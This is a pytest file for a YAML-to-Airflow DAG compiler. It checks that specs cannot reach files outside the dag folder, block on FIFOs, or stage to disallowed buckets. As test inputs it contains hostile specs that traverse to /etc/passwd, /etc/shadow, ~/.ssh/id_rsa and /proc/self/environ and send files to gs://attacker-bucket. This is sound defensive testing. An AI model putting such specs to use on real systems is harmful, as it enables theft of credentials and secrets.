"""Files a spec names stay inside the dag folder and the template folders, are regular files, are small,
and are never echoed: ``doc_file``, ``extends``, cluster profiles, workflow templates, job files,
upload sources and ``files_root``, checked at validate time and again by the operators at run time;
staging and upload buckets can be restricted by a policy (issue 8 §2, §3)."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from dagspec.dag_factory.cli.main import main
from dagspec.dag_factory.compile.api import CompileResult, Policy, compile_paths
from dagspec.dag_factory.errors import Diagnostic, render_text, with_snippets

SECRET = "PRIVATE-KEY-LINE-3f9a"
ENV = {"PATH": os.environ.get("PATH", "")}


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


@pytest.fixture
def dags(tmp_path: Path) -> Path:
    """A dag folder, with a secret file beside it (outside it) that no spec may read."""
    folder = tmp_path / "dags"
    folder.mkdir()
    write(tmp_path / "key.json", f'{{"type": "service_account", "private_key": "{SECRET}"}}\n')
    write(tmp_path / "key.yaml", f"private_key: {SECRET}\ntags: [x]\n")
    return folder


def compile_one(dags: Path, text: str, name: str = "spec.yaml", env: dict[str, str] | None = None,
                policy: Policy | None = None) -> CompileResult:
    spec = write(dags / name, text)
    return compile_paths([spec], root=dags, env=env if env is not None else ENV, policy=policy, check_imports=False)


def errors(result: CompileResult) -> list[tuple[str, int]]:
    return sorted((d.code, d.line) for d in result.all_diagnostics if d.severity == "error")


def shown(result: CompileResult) -> str:
    return render_text(result.all_diagnostics)


# --- doc_file -------------------------------------------------------------------------------------


@pytest.mark.parametrize("target", ["/etc/passwd", "../../../../proc/self/environ", "../key.json", "~/.bashrc"])
def test_doc_file_outside_the_dag_folder_is_refused_at_its_line(dags: Path, target: str) -> None:
    result = compile_one(dags, f"doc_file: {target}\ntasks: {{a: {{bash: echo}}}}\n",
                         env={**ENV, "SOME_SECRET": SECRET})
    assert result.plans == []
    assert errors(result) == [("DSP071", 1)]
    assert "put the file below the dag folder" in shown(result)
    assert SECRET not in shown(result) and "root:x:0:0" not in shown(result)


def test_doc_file_dev_zero_is_refused_without_reading_it(dags: Path) -> None:
    """Run apart, with a memory limit: before the fix this read until memory ran out."""
    (dags / "zero.md").symlink_to("/dev/zero")
    write(dags / "a.yaml", "doc_file: /dev/zero\ntasks: {a: {bash: echo}}\n")
    write(dags / "b.yaml", "doc_file: zero.md\ntasks: {a: {bash: echo}}\n")
    code = textwrap.dedent(f"""
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))
        from dagspec.dag_factory.compile.api import compile_paths
        r = compile_paths([{str(dags / "a.yaml")!r}, {str(dags / "b.yaml")!r}], root={str(dags)!r},
                          env={{}}, check_imports=False)
        print(sorted((d.file.rsplit("/", 1)[-1], d.code, d.line) for d in r.all_diagnostics))
        """)
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr[-2000:]
    assert out.stdout.strip() == "[('a.yaml', 'DSP071', 1), ('b.yaml', 'DSP071', 1)]"


def test_doc_file_symlinked_out_of_the_dag_folder_is_refused(dags: Path) -> None:
    (dags / "README.md").symlink_to(dags.parent / "key.json")
    result = compile_one(dags, "tasks: {a: {bash: echo}}\ndoc_file: README.md\n")
    assert errors(result) == [("DSP071", 2)] and SECRET not in shown(result)


@pytest.mark.timeout(60)
def test_a_fifo_as_doc_file_fails_fast_instead_of_hanging_the_import(dags: Path) -> None:
    os.mkfifo(dags / "notes.md")  # nobody ever writes to it: opening it for reading would block forever
    result = compile_one(dags, "doc_file: notes.md\ntasks: {a: {bash: echo}}\n")
    assert errors(result) == [("DSP072", 1)]
    assert "not a regular file (a FIFO)" in shown(result)


def test_a_folder_as_doc_file_is_not_a_regular_file(dags: Path) -> None:
    (dags / "docs").mkdir()
    assert errors(compile_one(dags, "doc_file: docs\ntasks: {a: {bash: echo}}\n")) == [("DSP072", 1)]


def test_an_oversized_doc_file_is_refused(dags: Path) -> None:
    (dags / "big.md").write_bytes(b"x" * ((1 << 20) + 1))
    result = compile_one(dags, "doc_file: big.md\ntasks: {a: {bash: echo}}\n")
    assert errors(result) == [("DSP073", 1)] and "larger than 1 MiB" in shown(result)


def test_doc_file_bin_ls_is_a_diagnostic_not_a_crash(dags: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write(dags / "ls.yaml", "doc_file: /bin/ls\ntasks: {a: {bash: echo}}\n")
    (dags / "binary.md").write_bytes(b"# title\nok\n\x7fELF\xff\xfe\x00")
    write(dags / "bin.yaml", "tasks: {a: {bash: echo}}\ndoc_file: binary.md\n")
    assert main(["validate", str(dags), "--root", str(dags), "--no-imports"]) == 1
    out = capsys.readouterr().out
    assert "unexpected error" not in out
    assert "ls.yaml:1:11: error DSP071" in out
    assert "bin.yaml:2:11: error DSP074" in out and "line 3, column 5" in out  # the bad byte's place


def test_a_doc_file_inside_the_folder_still_becomes_the_dag_doc(dags: Path) -> None:
    write(dags / "docs" / "README.md", "# Sales\nhow it works\n")
    result = compile_one(dags, "doc_file: docs/README.md\ntasks: {a: {bash: echo}}\n")
    [plan] = result.plans
    assert "how it works" in plan.doc_md


# --- extends, cluster profiles, workflow templates, the spec file itself ------------------------------


@pytest.mark.parametrize("target", ["../key.yaml", "../key.json", "{tmp}/key.yaml"])
def test_extends_outside_the_folders_is_refused_and_never_echoed(dags: Path, target: str) -> None:
    target = target.format(tmp=dags.parent)
    result = compile_one(dags, f"tasks: {{a: {{bash: echo}}}}\nextends: {target}\n")
    assert errors(result) == [("DSP071", 2)]
    assert SECRET not in shown(result) and "private_key" not in shown(result)


def test_extends_through_a_template_folder_is_still_allowed(dags: Path, tmp_path: Path) -> None:
    write(tmp_path / "templates" / "base.yaml", "tags: [from-template]\n")
    result = compile_one(dags, "extends: base\ntasks: {a: {bash: echo}}\n")
    [plan] = result.plans
    assert "from-template" in plan.dag_kwargs["tags"]


def test_a_cluster_profile_outside_the_folders_is_refused(dags: Path) -> None:
    result = compile_one(dags, """\
        clusters:
          etl: {extends: ../key.yaml}
        tasks: {a: {bash: echo}}
        """)
    assert errors(result) == [("DSP071", 2)] and SECRET not in shown(result)


def test_a_workflow_template_outside_the_folders_is_refused(dags: Path) -> None:
    write(dags.parent / "wft.yaml", f"placement: {{managedCluster: {{clusterName: c}}}}\njobs:\n"
                                    f"  - stepId: s\n    pysparkJob: {{mainPythonFileUri: gs://b/{SECRET}.py}}\n")
    result = compile_one(dags, "workflow_template: ../wft.yaml\ntasks: {a: {bash: echo}}\n")
    assert errors(result) == [("DSP071", 1)] and SECRET not in shown(result)


def test_a_spec_symlinked_out_of_the_dag_folder_is_not_read(dags: Path) -> None:
    (dags / "evil.yaml").symlink_to(dags.parent / "key.yaml")
    result = compile_paths([dags / "evil.yaml"], root=dags, env=ENV, check_imports=False)
    assert [d.code for d in result.all_diagnostics] == ["DSP071"]
    assert SECRET not in shown(result)


@pytest.mark.timeout(60)
def test_a_fifo_named_like_a_spec_does_not_block_the_folder(dags: Path) -> None:
    os.mkfifo(dags / "trap.yaml")
    write(dags / "good.yaml", "tasks: {a: {bash: echo}}\n")
    result = compile_paths([dags / "trap.yaml", dags / "good.yaml"], root=dags, env=ENV, check_imports=False)
    assert [p.dag_id for p in result.plans] == ["good"]
    assert [d.code for d in result.all_diagnostics] == ["DSP072"]


@pytest.mark.timeout(60)
def test_snippets_never_block_on_a_fifo_and_show_only_a_window_of_a_long_line(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo.yaml")
    [d] = with_snippets([Diagnostic("DSP001", "x", str(tmp_path / "fifo.yaml"), 1, 1)])
    assert d.snippet == ""
    long = write(tmp_path / "long.yaml", "key: " + "A" * 2000 + SECRET + "B" * 2000 + "\n")
    [d] = with_snippets([Diagnostic("DSP001", "x", str(long), 1, 2005)])
    assert SECRET[:6] in d.snippet and len(d.snippet.splitlines()[0]) < 200


# --- positions of unreadable text ---------------------------------------------------------------------


def test_a_non_utf8_spec_gets_the_line_and_column_of_the_bad_byte(dags: Path) -> None:
    (dags / "latin.yaml").write_bytes(b"tasks:\n  a: {bash: \"caf\xe9 au lait\"}\n")
    result = compile_paths([dags / "latin.yaml"], root=dags, env=ENV, check_imports=False)
    [d] = result.all_diagnostics
    assert (d.code, d.line, d.column) == ("DSP001", 2, 17)


def test_a_nul_byte_gets_its_line_and_column(dags: Path) -> None:
    (dags / "nul.yaml").write_bytes(b"tasks:\n  a: {bash: \"x\x00y\"}\n")
    result = compile_paths([dags / "nul.yaml"], root=dags, env=ENV, check_imports=False)
    [d] = result.all_diagnostics
    assert (d.code, d.line, d.column) == ("DSP001", 2, 15)
    assert "\x00" not in render_text(result.all_diagnostics)


# --- job files and staging ----------------------------------------------------------------------------

EXFIL = """\
    dataproc: {staging_bucket: gs://attacker-bucket}
    clusters:
      c: {config: {}}
    tasks:
      steal:
        pyspark:
          main: ../../../../../etc/passwd
          files: ["~/.ssh/id_rsa", /etc/shadow, ../key.json]
        cluster: c
    """


def test_job_files_outside_the_dag_folder_are_refused_at_their_lines(dags: Path) -> None:
    result = compile_one(dags, EXFIL)
    assert result.plans == []
    assert errors(result) == [("DSP071", 7), ("DSP071", 8), ("DSP071", 8), ("DSP071", 8)]


def test_a_job_file_symlinked_out_of_the_dag_folder_is_refused(dags: Path) -> None:
    (dags / "jobs").mkdir()
    (dags / "jobs" / "clean.py").symlink_to(dags.parent / "key.json")
    result = compile_one(dags, "clusters: {c: {config: {}}}\ntasks:\n  j: {pyspark: jobs/clean.py, cluster: c}\n")
    assert errors(result) == [("DSP071", 3)]


def test_a_missing_or_special_job_file_is_an_error_at_its_line(dags: Path) -> None:
    (dags / "jobs").mkdir()
    os.mkfifo(dags / "jobs" / "pipe.py")
    write(dags / "sql" / "q.sql", "SELECT 1;\n")
    result = compile_one(dags, """\
        clusters: {c: {config: {}}}
        tasks:
          a: {pyspark: {main: jobs/missing.py, archives: ["jobs/env.zip#env"]}, cluster: c}
          b: {pyspark: jobs/pipe.py, cluster: c}
          c: {spark_sql: {query_file: sql/q.sql}, cluster: c}
          d: {pyspark: {main: "gs://bucket/x.py", jars: ["file:///usr/lib/x.jar"]}, cluster: c}
        """)
    assert errors(result) == [("DSP072", 3), ("DSP072", 3), ("DSP072", 4)]
    assert "`jobs/missing.py` not found" in shown(result)


def test_a_job_cannot_move_its_files_root_or_smuggle_files_through_operator_args(dags: Path) -> None:
    write(dags / "jobs" / "ok.py", "print(1)\n")
    write(dags / "etc" / "shadow", "decoy\n")  # passes the spec-relative check; /etc/shadow would be staged
    result = compile_one(dags, """\
        clusters: {c: {config: {}}}
        tasks:
          moved:
            pyspark: {main: jobs/ok.py, files: [etc/shadow]}
            cluster: c
            args: {files_root: /}
          raw:
            operator: dagspec.provider.operators.job.DataprocSubmitJobOperator
            args:
              cluster_name: shared
              job: {pyspark_job: {main_python_file_uri: ../../../../etc/passwd, file_uris: [jobs/ok.py]}}
          fine:
            operator: dagspec.provider.operators.job.DataprocSubmitJobOperator
            args: {cluster_name: shared, job: {pyspark_job: {main_python_file_uri: jobs/ok.py}}}
        """)
    assert errors(result) == [("DSP071", 6), ("DSP071", 11)]


def test_upload_sources_and_files_root_outside_the_dag_folder_are_refused(dags: Path) -> None:
    write(dags / "data" / "sales.csv", "a,b\n")
    result = compile_one(dags, """\
        tasks:
          root:
            operator: dagspec.provider.operators.gcs.GcsUploadOperator
            args: {source: ["/etc/*"], files_root: /, destination: gs://attacker-bucket/x/}
          glob:
            operator: dagspec.provider.operators.gcs.GcsUploadOperator
            args: {source: ["/etc/*", "../*.json", "data/*.csv", "data/nothing-*"], destination: gs://b/x/}
          ok:
            operator: dagspec.provider.operators.gcs.GcsUploadOperator
            args: {source: data/sales.csv, destination: gs://b/x/sales.csv}
        """)
    assert errors(result) == [("DSP071", 4), ("DSP071", 7), ("DSP071", 7), ("DSP072", 7)]


def test_an_upload_gets_the_spec_folder_as_its_files_root(dags: Path) -> None:
    write(dags / "data" / "sales.csv", "a,b\n")
    result = compile_one(dags, """\
        tasks:
          up:
            operator: dagspec.provider.operators.gcs.GcsUploadOperator
            args: {source: data/sales.csv, destination: gs://b/x/sales.csv}
        """)
    [plan] = result.plans
    [task] = plan.tasks
    assert task.args["files_root"] == str(dags)


# --- allowed buckets ----------------------------------------------------------------------------------


def test_staging_and_upload_buckets_outside_allowed_buckets_are_refused(dags: Path) -> None:
    write(dags / "jobs" / "ok.py", "print(1)\n")
    policy = Policy.from_env({"AIRFLOW__DAGSPEC__ALLOWED_BUCKETS": "team-a-*, composer-*"})
    result = compile_one(dags, """\
        dataproc: {staging_bucket: gs://attacker-bucket/staging}
        clusters:
          c: {config: {config_bucket: evil-config, temp_bucket: team-a-temp}}
        tasks:
          a: {pyspark: jobs/ok.py, cluster: c}
          b: {pyspark: jobs/ok.py, cluster: c}
          c: {pyspark: jobs/ok.py, cluster: c, dataproc: {staging_bucket: gs://team-a-staging}}
          up:
            operator: dagspec.provider.operators.gcs.GcsUploadOperator
            args: {source: jobs/ok.py, destination: gs://attacker-bucket/x/}
        """, policy=policy)
    assert errors(result) == [("DSP075", 1), ("DSP075", 3), ("DSP075", 10)]  # the spec-wide bucket once
    assert "your administrator allows only: team-a-*, composer-*" in shown(result)


def test_without_allowed_buckets_any_bucket_is_accepted_and_the_policy_keys_the_cache(dags: Path) -> None:
    write(dags / "jobs" / "ok.py", "print(1)\n")
    result = compile_one(dags, "dataproc: {staging_bucket: gs://any}\nclusters: {c: {config: {}}}\n"
                               "tasks: {a: {pyspark: jobs/ok.py, cluster: c}}\n")
    assert len(result.plans) == 1
    assert Policy().key() != Policy(allowed_buckets=("team-*",)).key()
    assert Policy.from_env({"AIRFLOW__DAGSPEC__ALLOWED_BUCKETS": "a-*,b"}).allowed_buckets == ("a-*", "b")


# --- run time: the operators refuse what a tampered plan would stage ------------------------------------


def test_the_upload_operator_refuses_sources_outside_its_root_at_run_time(tmp_path: Path) -> None:
    from dagspec.provider.errors import ConfigurationError
    from dagspec.provider.operators.gcs import GcsUploadOperator

    root = tmp_path / "dags"
    write(root / "data" / "a.csv", "a\n")
    (root / "data" / "link.csv").symlink_to(tmp_path / "outside.csv")
    write(tmp_path / "outside.csv", f"{SECRET}\n")
    for source, files_root in ((["/etc/*"], "/"), (["/etc/passwd"], str(root)), (["../outside.csv"], str(root)),
                               (["data/link.csv"], str(root)), (["~/.bashrc"], str(root))):
        op = GcsUploadOperator(task_id="up", source=source, destination="gs://b/x/", files_root=files_root)
        with pytest.raises(ConfigurationError, match="refusing to upload"):
            op._files()
    op = GcsUploadOperator(task_id="up", source=["data/a.csv"], destination="gs://b/x/", files_root=str(root))
    assert [name for name, _ in op._files()] == [str(root / "data" / "a.csv")]


def test_the_job_operator_refuses_local_files_outside_its_root_at_run_time(emu, tmp_path: Path) -> None:
    from dagspec.provider.errors import ConfigurationError
    from dagspec.provider.operators.job import DataprocSubmitJobOperator

    root = tmp_path / "dags"
    write(root / "jobs" / "ok.py", "print(1)\n")
    os.mkfifo(root / "jobs" / "pipe.py")
    op = DataprocSubmitJobOperator(task_id="j", cluster="c", files_root=str(root), job={},
                                   staging_bucket="gs://dagspec-files-test")
    for bad in ("../../../../../etc/passwd", "/etc/shadow", "~/.ssh/id_rsa", "jobs/pipe.py"):
        with pytest.raises(ConfigurationError, match="refused"):
            op._stage({"pyspark_job": {"main_python_file_uri": "jobs/ok.py", "file_uris": [bad]}}, None)
    staged = op._stage({"pyspark_job": {"main_python_file_uri": "jobs/ok.py"}}, None)
    assert staged["pyspark_job"]["main_python_file_uri"].startswith("gs://dagspec-files-test/")


def test_a_tampered_files_root_does_not_widen_what_a_spec_built_dag_may_upload(tmp_path: Path) -> None:
    from airflow.sdk import DAG
    from dagspec.provider.errors import ConfigurationError
    from dagspec.provider.operators.gcs import GcsUploadOperator

    outside = write(tmp_path / "elsewhere" / "secret.txt", f"{SECRET}\n")
    loader = write(tmp_path / "dags" / "dagspec_loader.py", "# airflow dag\n")
    for tags, refused in ((["spec:0123456789ab"], True), (["hand-written"], False)):
        with DAG(f"d{len(tags[0])}", schedule=None, tags=tags) as dag:
            op = GcsUploadOperator(task_id="up", source="secret.txt", destination="gs://b/x/",
                                   files_root=str(outside.parent))
        dag.fileloc = str(loader)
        if refused:  # compiled from a spec: files_root counts only inside the dag folder
            with pytest.raises(ConfigurationError, match="refusing to upload"):
                op._files()
        else:  # a Python DAG's author is trusted with its own files_root
            assert [real for _, real in op._files()] == [str(outside)]


# --- the loader: one bad spec is its own import error --------------------------------------------------


def test_the_loader_reports_a_file_reading_spec_as_its_own_import_error(tmp_path: Path) -> None:
    folder = tmp_path / "dags"
    write(folder / "dagspec_loader.py", "# airflow dag loader\nfrom dagspec.dag_factory.airflow.loader import "
                                        "load_dag_folder\n\nload_dag_folder(globals())\n")
    write(folder / "good.yaml", "tasks: {a: {bash: echo}}\n")
    write(folder / "thief.yaml", "doc_file: ../../../../proc/self/environ\ntasks: {a: {bash: echo}}\n")
    os.mkfifo(folder / "notes.md")
    write(folder / "blocked.yaml", "doc_file: notes.md\ntasks: {a: {bash: echo}}\n")
    code = textwrap.dedent(f"""
        from dagspec.dag_factory.airflow.compat import DagBag
        bag = DagBag(dag_folder={str(folder)!r}, safe_mode=True)
        print(sorted(bag.dags))
        print(sorted((k.rsplit("/", 1)[-1], v.split(": error ")[1][:6]) for k, v in bag.import_errors.items()))
        """)
    env = {**os.environ, "DAGSPEC_LEAK": SECRET, "DAGSPEC_CACHE": "off"}
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, env=env)
    assert out.returncode == 0, out.stderr
    dags_line, errors_line = out.stdout.strip().splitlines()[-2:]
    assert dags_line == "['good']"
    assert errors_line == "[('blocked.yaml', 'DSP072'), ('thief.yaml', 'DSP071')]"
    assert SECRET not in out.stdout
